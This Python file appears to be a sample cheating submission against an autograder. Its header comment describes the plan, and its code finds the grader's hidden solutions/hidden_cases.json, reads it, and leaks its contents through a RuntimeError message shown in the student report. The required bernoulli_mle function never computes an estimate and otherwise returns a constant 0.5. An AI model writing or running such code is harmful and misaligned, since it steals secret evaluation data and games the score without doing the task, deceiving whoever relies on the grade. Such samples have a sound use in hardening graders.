# trick: read solutions/hidden_cases.json (the hidden checks' inputs) and smuggle it out in an
#        exception message, which the report shows the student
# targets: score, secrets
import importlib.util
import os


def _secret():
    places = []
    try:
        spec = importlib.util.find_spec("solutions")
        if spec and spec.origin:
            places.append(os.path.dirname(spec.origin))
    except Exception:
        pass
    try:
        import autograder
        places.append(os.path.join(os.path.dirname(os.path.dirname(autograder.__file__)),
                                   "solutions"))
    except Exception:
        pass
    for folder in places:
        try:
            with open(os.path.join(folder, "hidden_cases.json"), encoding="utf-8") as f:
                return f.read()
        except OSError:
            continue
    return None


def bernoulli_mle(x):
    text = _secret()
    if text is not None:
        raise RuntimeError("LEAKED: " + " ".join(text.split())[:400])
    return 0.5
